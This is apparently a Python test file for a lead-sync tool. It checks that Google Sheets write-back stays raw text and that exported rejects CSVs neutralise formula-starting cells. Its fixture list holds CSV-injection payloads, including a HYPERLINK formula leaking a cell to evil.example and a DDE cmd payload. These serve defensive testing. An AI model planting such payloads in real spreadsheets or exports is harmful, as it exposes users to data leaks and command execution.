"""No formulas: Sheets write-back is RAW, and CSV files people open neutralise = + - @ cells."""

from __future__ import annotations

import csv
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st

from blocks import GoogleSheetLeads, GoogleSheetsCredentials
from connectors.csv_file import neutralize_cell as connector_neutralize
from connectors.csv_file import write_rejects_csv
from connectors.leads import Reject
from flows import reports
from flows.sync import sync_leads_to_campaign
from flows.write_back import write_back_statuses
from tests._stack import Stack

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _cells(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    with path.open(newline="", encoding=encoding) as fh:
        return list(csv.reader(fh))


def _assert_no_formula_cells(rows: list[list[str]]) -> None:
    for r, row in enumerate(rows, start=1):
        for c, cell in enumerate(row, start=1):
            assert not cell.startswith(DANGEROUS), f"line {r} column {c} starts a formula: {cell!r}"


def test_sheets_write_back_is_raw_and_formula_text_stays_text(stack: Stack) -> None:
    sid = stack.sheets.create_spreadsheet(
        "Formulas",
        {
            "Sheet1": [
                ["Email", "Company", "=Status"],
                ["a@x.com", "=1+1", "=2+2"],
                ["b@x.com", "@SUM(A1)", ""],
            ]
        },
    )
    campaign_id = stack.new_campaign()
    name = f"formulas-{stack.tag}"
    # A status column whose configured name itself looks like a formula: written as text too.
    GoogleSheetLeads(
        credentials=GoogleSheetsCredentials(api_base_url=stack.sheets.url),
        spreadsheet_id=sid,
        status_column="=Status",
        opened_column="+Opened",
    ).save(name, overwrite=True)
    store = f"google-sheet-leads/{name}"
    sync_leads_to_campaign(campaign_id=campaign_id, lead_store=store, coldsend=stack.coldsend_block)
    stack.coldsend.set_lead_status(campaign_id, "a@x.com", "OPENED")
    stack.coldsend.set_lead_status(campaign_id, "b@x.com", "SENT")

    report = write_back_statuses(
        campaign_id=campaign_id, lead_store=store, coldsend=stack.coldsend_block
    )

    assert report.written == 2
    writes = stack.sheets.writes()
    assert writes and {w["valueInputOption"] for w in writes} == {"RAW"}
    values = stack.sheets.values(sid)
    header = values[0]
    assert header[:3] == ["Email", "Company", "=Status"] and "+Opened" in header
    assert values[1][1] == "=1+1" and values[2][1] == "@SUM(A1)"
    status = header.index("=Status")
    assert values[1][status] == "OPENED" and values[2][status] == "SENT"
    assert values[1][header.index("+Opened")] == "TRUE"
    assert not any(isinstance(cell, dict) for row in values for cell in row), values


def test_reject_reports_from_a_sync_neutralise_formula_cells(stack: Stack, tmp_path: Path) -> None:
    path = tmp_path / "formulas.csv"
    with path.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(
            [["Email", "Company"], *([f, "x"] for f in FORMULAS), ["ok@x.com", "y"]]
        )
    campaign_id = stack.new_campaign()
    report = sync_leads_to_campaign(
        campaign_id=campaign_id, lead_store=stack.csv_store(path), coldsend=stack.coldsend_block
    )
    assert stack.campaign_emails(campaign_id) == ["ok@x.com"]
    assert report.rejected == len(FORMULAS) and report.rejects_csv
    rows = _cells(Path(report.rejects_csv), encoding="utf-8")
    _assert_no_formula_cells(rows)
    emails = {row[rows[0].index("email")] for row in rows[1:]}
    # Neutralised, not dropped: the text is all there behind the quote mark.
    assert {e.removeprefix("'") for e in emails} == {f.strip() for f in FORMULAS}


def test_write_rejects_csv_neutralises_every_text_cell(tmp_path: Path) -> None:
    rejects = [
        Reject(reason=f, row_number=i, source_id=f, email=f) for i, f in enumerate(FORMULAS, 1)
    ]
    path = tmp_path / "rejects.csv"
    assert write_rejects_csv(path, rejects) == len(FORMULAS)
    rows = _cells(path)
    _assert_no_formula_cells(rows)
    assert [row[2] for row in rows[1:]] == ["'" + f for f in FORMULAS]


@given(st.text(max_size=30))
def test_both_neutralisers_agree_and_leave_no_formula_start(value: str) -> None:
    # flows.reports keeps its own copy of the connector's function: they must not drift apart.
    safe = connector_neutralize(value)
    assert reports.neutralize_cell(value) == safe
    assert not safe.startswith(DANGEROUS)
    assert safe.removeprefix("'") == value or safe == value
